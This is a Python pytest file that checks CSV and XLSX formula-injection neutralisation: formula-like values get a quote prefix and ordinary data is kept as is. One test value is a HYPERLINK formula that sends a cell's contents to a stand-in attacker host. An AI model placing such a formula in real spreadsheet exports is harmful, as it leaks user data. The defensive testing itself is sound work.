"""OWASP formula neutralisation, the one function every XLSX/CSV writer uses."""
import openpyxl
import pytest

from nianbao.safe import csv_text, formula_like, text_cell


@pytest.mark.parametrize("value", ["=1+1", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1+1",
                                   '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'])
def test_formula_like_values_are_neutralised(value):
    assert formula_like(value)
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize("value", ["-650", "+3", "90.89%", "数控技术", "", "a=b"])
def test_data_values_are_kept(value):
    assert not formula_like(value)
    assert csv_text(value) == value


def test_text_cell_writes_text_with_quote_prefix(tmp_path):
    book = openpyxl.Workbook()
    text_cell(book.active, 1, 1, "=1+1")
    text_cell(book.active, 2, 1, "ok\x01")
    text_cell(book.active, 3, 1, 7)
    book.save(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert (ws["A1"].value, ws["A1"].data_type, ws["A1"].quotePrefix) == ("=1+1", "s", True)
    assert ws["A2"].value == "ok" and ws["A3"].value == 7
